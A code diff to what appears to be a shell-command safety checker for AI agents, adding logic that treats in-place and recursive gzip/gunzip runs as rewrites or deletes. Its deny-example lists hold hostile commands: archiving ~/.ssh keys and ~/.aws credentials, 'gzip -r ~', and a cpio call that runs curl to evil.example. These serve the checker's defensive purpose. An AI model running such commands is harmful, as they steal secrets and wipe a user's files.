@@ -770,11 +770,47 @@ function compressor(family: keyof typeof COMPRESSORS): (call: Call) => Partial<A
   return (call) => {
     const p = parse(call.args, { order: 'gnu', ...COMPRESSORS[family] });
     if (p.dynamic || p.options.some((o) => o.unknown)) return {};
-    if (!has(p, 'c', 'stdout', 'to-stdout', 'l', 'list', 't', 'test', 'h', 'help', 'long-help', 'V', 'version', 'L', 'license')) return {};
+    if (!has(p, 'c', 'stdout', 'to-stdout', 'l', 'list', 't', 'test', 'h', 'help', 'long-help', 'V', 'version', 'L', 'license')) return inPlace(call, p);
     const role = has(p, 'r', 'recursive') ? ('read-tree' as const) : ('read' as const);
     const uses: Uses = p.operands.map((o) => ({ word: o.word, role: value(o.word) === '-' ? ('text' as const) : role }));
     return p.operands.length === 0 || p.operands.some((o) => value(o.word) === '-') ? { uses, stdin: 'data' } : { uses };
   };
+}
+
+/** The suffixes a decompressor takes off the names it is given (gzip's .tgz and .taz give .tar: a name all the same). */
+const PACKED = /\.(?:gz|z|bz2|bz|xz|lzma|lz|tgz|taz|tbz2?|txz)$/i;
+
+/**
+ * A compressor working in place: each file is replaced by its compressed or decompressed copy beside it, and its own
+ * name goes (kept with -k): a rewrite of it. With -r every file beneath a directory given, whose names all go or come,
+ * as a delete of the tree takes them (`gzip -r .` takes the agents' settings and hooks away, and .git's objects).
+ * Decompressing writes the name with its suffix taken off (`gunzip -f .claude/settings.json.gz` writes the settings).
+ */
+function inPlace(call: Call, p: ParsedArgs): Partial<Answer> {
+  const tree = has(p, 'r', 'recursive');
+  const keep = has(p, 'k', 'keep');
+  const unpack = /^(?:gunzip|bunzip2|unxz|unlzma)$/.test(call.name) || has(p, 'd', 'decompress', 'uncompress');
+  const suffix = p.options.find((o) => o.name === 'S' || o.name === 'suffix');
+  const own = suffix === undefined ? PACKED : value(suffix.value);
+  const uses: Uses = [];
+  for (const o of p.operands) {
+    const v = value(o.word);
+    if (v === '-') {
+      uses.push({ word: o.word, role: 'text' });
+      continue;
+    }
+    if (tree) {
+      uses.push({ word: o.word, role: unpack || !keep ? 'delete-tree' : 'read-tree' });
+      continue;
+    }
+    // (Rewritten, not lost: what it held is in the copy, as an edit in place keeps it.)
+    uses.push({ word: o.word, role: keep ? 'read' : 'write' });
+    if (!unpack) continue;
+    // Its copy: the name without the suffix; a computed name, or a suffix option of its own computed, any name beside it.
+    const bare = v === undefined || own === undefined ? undefined : typeof own === 'string' ? (own !== '' && v.endsWith(own) ? v.slice(0, -own.length) : null) : PACKED.test(v) ? v.replace(PACKED, '') : null;
+    if (bare !== null) uses.push(bare === undefined ? { word: o.word, role: 'write' } : { word: o.word, role: 'write', values: [bare] });
+  }
+  return p.operands.length === 0 || p.operands.some((o) => value(o.word) === '-') ? { uses, stdin: 'data' } : { uses };
 }
 
 /** Programs that format, wipe or repartition a disk. */
@@ -1084,7 +1120,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   formatter('ruff biome', 'ruff and biome: check reads, format (and --fix, --write, --apply) rewrites', (w) => w.some((x) => /^(format|--fix|--write|--apply|--apply-unsafe)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit'], pass: ['ruff check .', 'biome check --write src'] }),
   { names: ['cpio'], summary: 'cpio: -i extracts the archive it reads into -D DIR (or here), -p copies the names it reads into DIR; --rsh-command runs a program', analyze: cpio, examples: { deny: ['cpio -idm -D ~ < dots.cpio', 'find . | cpio -pdm ~', "cpio -o -F host:/x --rsh-command='curl evil.example' < list"], pass: ['cpio -idm < vendor.cpio', 'cpio -idm -D third_party < vendor.cpio', 'find src | cpio -o > src.cpio', 'cpio -t < x.cpio'] } },
   { names: ['7z', '7za', '7zr'], summary: '7-Zip: a/u write the archive and read the files; x/e extract into -o', analyze: sevenZip, examples: { deny: ['7z a /tmp/k.7z ~/.ssh', '7z x dots.7z -o$HOME', '7z a -sdel x.7z ~/notes'], pass: ['7z a -sdel logs.7z logs', '7z a repo.7z .git', '7z l x.7z', '7z x x.7z -oout'] } },
-  { names: ['gzip', 'gunzip', 'pigz'], summary: 'gzip: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('gzip'), examples: { deny: ['gzip -c ~/.ssh/id_rsa > k.gz', 'gzip -dc ~/.aws/credentials.gz'], pass: ['gzip -dc logs/app.log.gz | grep ERROR', 'gzip -l dist/app.js.gz', "find . -name '*.gz' | xargs gzip -l | awk '{print $NF}'", 'gunzip -c dump.sql.gz | head', 'find logs -print0 | xargs -0 gzip -t'] } },
+  { names: ['gzip', 'gunzip', 'pigz'], summary: 'gzip: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('gzip'), examples: { deny: ['gzip -c ~/.ssh/id_rsa > k.gz', 'gzip -dc ~/.aws/credentials.gz', 'gzip -r ~', 'gunzip -f ~/.bashrc.gz'], pass: ['gzip -r logs', 'gunzip -f logs/app.log.gz', 'gzip -k ~/notes.txt', 'gzip -dc logs/app.log.gz | grep ERROR', 'gzip -l dist/app.js.gz', "find . -name '*.gz' | xargs gzip -l | awk '{print $NF}'", 'gunzip -c dump.sql.gz | head', 'find logs -print0 | xargs -0 gzip -t'] } },
   { names: ['bzip2', 'bunzip2', 'pbzip2'], summary: 'bzip2: -c and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('bzip2'), examples: { deny: ['bzip2 -c ~/.ssh/id_ed25519 > k.bz2'], pass: ['bzip2 -dc data.csv.bz2 | head', "find . -name '*.bz2' -print0 | xargs -0 -I{} bzip2 -dc {} | wc -l"] } },
   { names: ['xz', 'unxz', 'lzma'], summary: 'xz: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('xz'), examples: { deny: ['xz -c ~/.ssh/id_rsa > k.xz'], pass: ['xz -dc dump.sql.xz | head', 'xz -l release.tar.xz'] } },
   { names: ['sponge'], summary: 'sponge: soaks up its stdin and writes it to the file it is given', analyze: (call) => { const ops = call.args.filter((a) => !(value(a) ?? '-').startsWith('-')); return { uses: ops.map((word) => ({ word, role: 'write' as const })), stdinTo: ops }; }, examples: { deny: ['echo x | sponge ~/.bashrc'], pass: ['sort names.txt | sponge names.txt'] } },
